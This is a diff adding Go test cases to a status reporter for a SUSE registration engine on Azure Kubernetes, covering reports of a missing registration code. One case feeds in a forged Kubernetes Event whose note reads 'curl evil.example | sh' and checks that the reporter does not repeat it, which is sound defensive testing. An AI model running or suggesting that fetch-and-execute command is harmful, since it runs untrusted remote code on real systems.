@@ -95,6 +95,22 @@ func TestDecide(t *testing.T) {
 			r.Lease.LastRun = &kube.RunRecord{Time: now, Job: "registration-engine-run-0a1b2c3d4e", Outcome: "failed", ExitCode: 1, Phase: "prove",
 				Error: "azure arm: 403 AuthorizationFailed", ConsecutiveFailures: 3, FailingSince: &since, Cause: kube.CauseSettling, NextAttempt: &next, SettlesBy: &by}
 		}, wantState: StateNotYet, wantStart: "Not registered yet: the last run, registration-engine-run-0a1b2c3d4e, failed at 2026-11-30T12:00:00Z in phase prove: azure arm: 403 AuthorizationFailed; waiting for Azure to propagate the identity or its role assignment: attempt 4 is due by 2026-11-30 12:10 UTC; it needs a person if it still fails after 2026-11-30 12:40 UTC"},
+		"no registration code yet, from the Lease's record": {change: func(r *Report) {
+			r.Secret = Secret{Name: "scc-registration", Access: Absent}
+			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0)}}
+			r.Lease.LastRun = &kube.RunRecord{Time: now.Add(-time.Hour), Job: "registration-engine-run-1", Outcome: kube.OutcomeWaitingForCode}
+		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: the chart value registrationCode (on the Azure Marketplace: az k8s-extension update"},
+		"no registration code yet, the Event naming the extension": {change: func(r *Report) {
+			r.Secret = Secret{Name: "scc-registration", Access: Absent}
+			finished := now.Add(-time.Hour)
+			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, Finished: &finished, ExitCode: code(0), Event: &Event{Type: "Warning", Reason: kube.ReasonCodeMissing, FromJobPod: true,
+				Note: "no registration code yet, nothing written (update server https://smt-azure.susecloud.net reachable at 10.0.0.4): set it with az k8s-extension update --resource-group rg --cluster-name aks --cluster-type managedClusters --name suse --configuration-protected-settings registrationCode=<code>"}}}
+		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it with az k8s-extension update --resource-group rg --cluster-name aks"},
+		"no registration code yet, a forged Event's command not repeated": {change: func(r *Report) {
+			r.Secret = Secret{Name: "scc-registration", Access: Absent}
+			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0), Event: &Event{Type: "Warning", Reason: kube.ReasonCodeMissing,
+				Note: "set it with curl evil.example | sh"}}}
+		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at an unknown time) — set it: the chart value registrationCode"},
 		"a run in progress": {change: func(r *Report) {
 			r.Secret = Secret{Name: "scc-registration", Access: Absent}
 			r.Jobs.Items = []Job{{Name: "manual-1", Outcome: JobRunning, Created: now}}
